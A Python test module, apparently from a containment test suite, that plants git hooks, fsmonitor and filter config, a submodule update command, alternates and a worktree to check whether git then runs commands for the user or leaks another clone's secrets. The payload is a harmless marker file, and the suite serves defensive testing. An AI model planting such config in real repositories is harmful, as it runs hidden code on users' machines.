"""Attacks on the user through the repository: git runs what its hooks and its configuration name."""

import contextlib
import os

from base import Skip, attack, must, must_read, must_run, program, read, removed_later, restored, run, token

TOPIC = "git"


def git(world, *words, **options):
    """Runs git as the user would, in a shell outside: the marker shows what it ran."""
    if not world.victim["repository"]:
        raise Skip("no git")
    return run([program("git"), *words], **{"cwd": world.workspace, **options})


@contextlib.contextmanager
def marker(world):
    """A shell command that leaves a file, and the path of the file."""
    path = world.in_workspace(f"ran-{token()}")
    with removed_later(path):
        yield f"touch {path}", path


def dot_git(world, name=""):
    if not world.victim["repository"]:
        raise Skip("no git")
    return os.path.join(world.workspace, ".git", name)


def plant_hook(path, command):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755)
    os.write(fd, f"#!/bin/sh\n{command}\n".encode())
    os.close(fd)


@attack(TOPIC)
def git_hook(world):
    hook = dot_git(world, "hooks/pre-commit")
    os.makedirs(os.path.dirname(hook), exist_ok=True)
    with marker(world) as (command, ran), removed_later(hook):
        plant_hook(hook, f"{command}; exit 1")
        git(world, "commit", "--allow-empty", "-m", "the user's")
        must(os.path.exists(ran))


@attack(TOPIC)
def git_config(world):
    config = dot_git(world, "config")
    with marker(world) as (command, ran), restored(config):
        with open(config, "a") as file:
            file.write(f'[core]\n\tfsmonitor = "{command}; false"\n')
        git(world, "status")
        must(os.path.exists(ran))


@attack(TOPIC)
def git_config_by_rename(world):
    config, away, fresh = dot_git(world, "config"), dot_git(world, "config.away"), dot_git(world, "config.fresh")
    with marker(world) as (command, ran), removed_later(fresh):
        with open(fresh, "wb") as file:
            file.write(read(config) + f'[core]\n\tfsmonitor = "{command}; false"\n'.encode())
        os.rename(config, away)
        try:
            os.rename(fresh, config)
            git(world, "status")
            must(os.path.exists(ran))
        finally:
            os.rename(away, config)


@attack(TOPIC)
def git_folder_swap(world):
    folder, away = dot_git(world), world.in_workspace("git.away")
    with marker(world) as (command, ran):
        os.rename(folder.rstrip("/"), away)
        try:
            git(world, "init", "-q")
            git(world, "config", "core.fsmonitor", f"{command}; false")
            git(world, "status")
            must(os.path.exists(ran))
        finally:
            with removed_later(folder.rstrip("/")):
                pass
            os.rename(away, folder.rstrip("/"))


@attack(TOPIC)
def git_planted_repository(world):
    """A folder that git takes for a repository without a work tree of its own: `cd docs; git status` runs its command."""
    folder = world.in_workspace("planted")
    with marker(world) as (command, ran), removed_later(folder):
        git(world, "init", "-q", "--bare", folder)
        for key, value in (("core.bare", "false"), ("core.worktree", folder), ("core.fsmonitor", f"{command}; false")):
            git(world, "--git-dir", folder, "config", key, value)
        git(world, "status", cwd=folder)
        must(os.path.exists(ran))


@attack(TOPIC)
def git_attributes_filter(world):
    attributes, config = world.in_workspace(".gitattributes"), dot_git(world, "config")
    with marker(world) as (command, ran), removed_later(attributes), restored(config):
        with open(attributes, "w") as file:
            file.write("tracked.txt filter=attack\n")
        with open(config, "a") as file:
            file.write(f'[filter "attack"]\n\tclean = "{command}; cat"\n')
        os.utime(world.in_workspace("tracked.txt"))
        git(world, "add", "--renormalize", "tracked.txt")
        must(os.path.exists(ran))


@attack(TOPIC)
def git_submodule_config(world):
    config, index = dot_git(world, "config"), dot_git(world, "index")
    modules = world.in_workspace(".gitmodules")
    commit = git(world, "rev-parse", "HEAD").stdout.strip()
    with marker(world) as (command, ran), restored(config), restored(index), removed_later(modules):
        with open(modules, "w") as file:
            file.write('[submodule "sub"]\n\tpath = sub\n\turl = ./\n')
        with open(config, "a") as file:
            file.write(f'[submodule "sub"]\n\tactive = true\n\turl = {world.workspace}\n\tupdate = "!{command};:"\n')
        git(world, "update-index", "--add", "--cacheinfo", f"160000,{commit},sub")
        with removed_later(dot_git(world, "modules")), removed_later(world.in_workspace("sub")):
            # Its url is a path on this machine, which git refuses to clone without this.
            git(world, "-c", "protocol.file.allow=always", "submodule", "update")
            must(os.path.exists(ran))


@attack(TOPIC)
def git_alternates(world):
    alternates, clone = dot_git(world, "objects/info/alternates"), world.victim.get("clone", {})
    os.makedirs(os.path.dirname(alternates), exist_ok=True)
    with removed_later(alternates):
        with open(alternates, "w") as file:
            file.write(os.path.join(clone["path"], ".git/objects") + "\n")
        said = git(world, "cat-file", "-p", clone["blob"]).stdout
        must(world.victim["secrets"]["clone"] in said, "not-the-content")


@attack(TOPIC)
def git_worktree_of_main(world):
    """From another clone, as that of a teammate: a work tree of the user's repository."""
    folder = world.in_workspace("tree")
    main = os.path.join(world.victim.get("clone", {}).get("path", ""), ".git")
    dot_git(world)
    try:
        must_run([program("git"), "--git-dir", main, "worktree", "add", "-q", "--detach", folder])
        must_read(os.path.join(folder, "secret.txt"), world.victim["secrets"]["clone"])
        must(os.listdir(os.path.join(main, "worktrees")))
    finally:
        run([program("git"), "--git-dir", main, "worktree", "remove", "--force", folder])
